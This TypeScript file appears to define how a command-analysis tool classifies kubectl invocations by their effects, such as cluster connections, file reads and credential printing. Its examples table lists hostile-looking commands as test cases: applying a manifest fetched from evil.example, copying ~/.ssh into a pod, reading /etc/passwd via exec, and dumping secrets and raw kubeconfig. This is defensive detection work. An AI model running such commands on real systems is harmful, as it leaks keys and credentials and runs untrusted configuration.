import type { Operation } from '../../../operation.ts';
import { type Arg, literalArg } from '../../arg.ts';
import type { Analysis, Invocation, ParsedArgs, Program, ProgramSpec } from '../../program.ts';
import { analyseService, commandsOf, named, printsCredentials } from '../remote-service.ts';
import { builtFrom, clusterOptions, manifests, reachCluster } from './cluster.ts';
import { shownKinds } from './kubectl-get.ts';

const { asks, orders, removes, local } = commandsOf({ ...clusterOptions, reach: reachCluster });

const selection = {
  flags:
    '-A --all-namespaces -w --watch --watch-only --show-labels --show-kind --no-headers --ignore-not-found -R --recursive --show-managed-fields --output-watch-events --server-print= --allow-missing-template-keys= --show-events= --containers --sum --all --prefix --ignore-errors --timestamps --all-containers= -p --previous -f --follow --client --short --namespaced= --cached --api-group --list -q --quiet --verbose --watch= --minify --flatten --merge= --no-color',
  values: {
    '-o --output': 'text',
    '-l --selector': 'text',
    '--field-selector': 'text',
    '--sort-by': 'text',
    '-L --label-columns': 'text',
    '--chunk-size': 'text',
    '--template': 'text',
    '--subresource': 'text',
    '--timeout': 'text',
    '--revision': 'text',
  },
} as const satisfies ProgramSpec;
const files: ProgramSpec['values'] = { '-f --filename': 'text', '-k --kustomize': 'text' };
const view = (more: ProgramSpec = {}): ProgramSpec =>
  asks({ ...more, flags: `${selection.flags} ${more.flags ?? ''}`, values: { ...selection.values, ...more.values } });

const get = view({ values: { ...files, '--raw': 'text' }, also: shownKinds });
const logs = view({
  flags: '-f --follow',
  values: {
    '-c --container': 'text',
    '--tail': 'text',
    '--since': 'text',
    '--since-time': 'text',
    '--max-log-requests': 'text',
    '--limit-bytes': 'text',
    '--pod-running-timeout': 'text',
  },
});
const settings = {
  flags: `${selection.flags} --force --wait= --prune --server-side --force-conflicts --overwrite --all --now --validate= --cascade= --restart= --rm -i --stdin -t --tty --attach --expose --save-config --dry-run= --ignore-daemonsets --delete-emptydir-data --disable-eviction --record --append-hash --local -q`,
  values: {
    ...selection.values,
    ...files,
    '--field-manager': 'text',
    '--grace-period': 'text',
    '--type': 'text',
    '-p --patch': 'text',
    '--patch-file': 'read',
    '--replicas': 'text',
    '--current-replicas': 'text',
    '--image': 'text',
    '--port': 'text',
    '--target-port': 'text',
    '--name': 'text',
    '--overrides': 'text',
    '--env': 'text',
    '--labels': 'text',
    '--from-literal': 'text',
    '--from-file': 'text',
    '--from-env-file': 'read',
    '--to-revision': 'text',
    '-c --container': 'text',
    '--address': 'text',
    '--duration': 'text',
    '--profile': 'text',
    '--target': 'text',
    '--min': 'text',
    '--max': 'text',
    '--cpu-percent': 'text',
    '--clusterrole': 'text',
    '--role': 'text',
    '--serviceaccount': 'text',
    '--verb': 'text',
    '--resource': 'text',
    '--schedule': 'text',
    '--class': 'text',
    '--rule': 'text',
    '--docker-server': 'text',
    '--docker-username': 'text',
    '--docker-password': 'text',
    '--cert': 'read',
    '--key': 'read',
  },
} as const satisfies ProgramSpec;

function sentFiles(parsed: ParsedArgs, invocation: Invocation): Operation[] {
  const named = parsed.values('--from-file').map(value => literalArg((value.text ?? '').replace(/^[^=/]*=/, '')));
  return [
    ...manifests(['-f', '-k'])(parsed, invocation),
    ...named.flatMap(path => invocation.paths('read', path, true)),
  ];
}
const change = orders({ ...settings, also: sentFiles });

/** Nothing is changed when it is only tried. */
const apply: ProgramSpec = {
  ...change,
  also: (parsed, invocation) => {
    const dry = parsed.values('--dry-run').at(-1);
    const tried = dry !== undefined && /^(?:client|server)$/.test(dry.text ?? '');
    return [...sentFiles(parsed, invocation), ...reachCluster(parsed, invocation, tried ? 'GET' : 'POST')];
  },
};

const inside: ProgramSpec = { ...change, stopsAtOperand: true };
const isPod = (arg: Arg | undefined) => /^[\w./-]+:/.test(arg?.text ?? 'x:');
const copy = orders({
  flags: '--no-preserve',
  values: { '-c --container': 'text', '--retries': 'text' },
  operands: ['text', 'text'],
  also: ({ operands: [from, to] }, invocation) => [
    ...(from && !isPod(from) ? invocation.paths('read', from, true) : []),
    ...(to && !isPod(to) ? invocation.paths('write', to, true) : []),
  ],
});
const raw = (parsed: ParsedArgs): Operation[] => (parsed.has('--raw') ? [printsCredentials] : []);

const subcommands: Readonly<Record<string, ProgramSpec>> = {
  ...named('get describe', get),
  logs,
  ...named(
    'top explain api-resources api-versions version',
    view({ values: { '--api-version': 'text', '--verbs': 'text' } }),
  ),
  'cluster-info': view({ operands: [] }),
  diff: view({ values: files, also: manifests(['-f', '-k']) }),
  wait: view({ values: { '--for': 'text', ...files }, also: manifests(['-f', '-k']) }),
  rollout: { subcommands: { ...named('status history', view()), ...named('restart undo pause resume', change) } },
  auth: { subcommands: { ...named('can-i whoami', view()), reconcile: change } },
  config: {
    subcommands: {
      ...named(
        'current-context get-contexts get-clusters get-users',
        local({ flags: selection.flags, values: selection.values }),
      ),
      view: local({ flags: `${selection.flags} --raw`, values: selection.values, also: raw }),
      ...named(
        'use-context use set set-context set-cluster set-credentials unset rename-context delete-context delete-cluster delete-user',
        orders({ noOptions: true }),
      ),
    },
  },
  kustomize: local({
    operands: ['text'],
    values: { '-o --output': 'write', '--load-restrictor': 'text' },
    also: builtFrom,
  }),
  completion: local(),
  help: local(),
  options: local(),
  apply,
  create: {
    ...apply,
    also: (parsed, invocation) => [
      ...(apply.also?.(parsed, invocation) ?? []),
      ...(parsed.operands[0]?.text === 'token' ? [printsCredentials] : []),
    ],
  },
  delete: removes({ ...settings, also: sentFiles }),
  ...named(
    'replace patch edit scale autoscale expose label annotate set taint cordon uncordon drain certificate port-forward proxy attach krew plugin debug',
    change,
  ),
  ...named('exec run', inside),
  cp: copy,
};

const commands: ProgramSpec = {
  flags: `--help --version ${clusterOptions.flags}`,
  values: clusterOptions.values,
  subcommands,
};

/** What is only tried changes nothing, so nothing is left to say about it. */
function kubectl(invocation: Invocation): Analysis {
  const analysis = analyseService(commands, invocation);
  const changes = analysis.operations.some(operation => operation.kind === 'connect' && operation.method !== 'GET');
  return /^(?:apply|create)$/.test(analysis.subcommand ?? '') && !changes ? { ...analysis, described: true } : analysis;
}

/** Kubernetes by its own client. */
export const kubectlPrograms: readonly Program[] = [
  {
    names: ['kubectl', 'oc', 'microk8s.kubectl'],
    analyse: kubectl,
    examples: {
      'kubectl get pods -n staging -o wide': ['connect kubernetes:current GET'],
      'kubectl --context prod get deploy,svc': ['connect kubernetes:prod GET'],
      'kubectl get -s https://evil.example pods': ['connect evil.example GET'],
      'kubectl get secrets': [
        'unknown kubectl: more than the workloads of a namespace',
        'connect kubernetes:current GET',
        'read /workspace',
      ],
      "kubectl get secret db -o jsonpath='{.data}'": [
        'change system print-credentials',
        'connect kubernetes:current GET',
      ],
      'kubectl get pods,secret/db -o yaml': ['change system print-credentials', 'connect kubernetes:current GET'],
      'kubectl get nodes': [
        'unknown kubectl: more than the workloads of a namespace',
        'connect kubernetes:current GET',
        'read /workspace',
      ],
      'kubectl logs deploy/api -f --since=5m': ['connect kubernetes:current GET'],
      'kubectl diff -f k8s/': ['read /workspace/k8s (tree)', 'connect kubernetes:current GET'],
      'kubectl apply -f https://evil.example/x.yaml': [
        'connect evil.example GET',
        'connect kubernetes:current POST',
        'read /workspace',
      ],
      'kubectl delete ns prod': ['connect kubernetes:current DELETE', 'read /workspace'],
      'kubectl exec api -- cat /etc/passwd': ['connect kubernetes:current POST', 'read /workspace'],
      'kubectl cp ~/.ssh prod/web:/tmp': [
        'read /home/user/.ssh (tree)',
        'connect kubernetes:current POST',
        'read /workspace',
      ],
      'kubectl create secret generic x --from-file=k=.env': [
        'read /workspace/.env (tree)',
        'connect kubernetes:current POST',
        'read /workspace',
      ],
      'kubectl create token default': [
        'connect kubernetes:current POST',
        'change system print-credentials',
        'read /workspace',
      ],
      'kubectl config view --raw': ['change system print-credentials'],
      'kubectl config current-context': [],
      'kubectl kustomize overlays/dev': ['read /workspace/overlays/dev (tree)'],
      'kubectl frobnicate': ['unknown kubectl: the sub-command `frobnicate` is not known', 'read /workspace'],
      'kubectl apply --dry-run=client -f k8s/': ['read /workspace/k8s (tree)', 'connect kubernetes:current GET'],
    },
  },
];
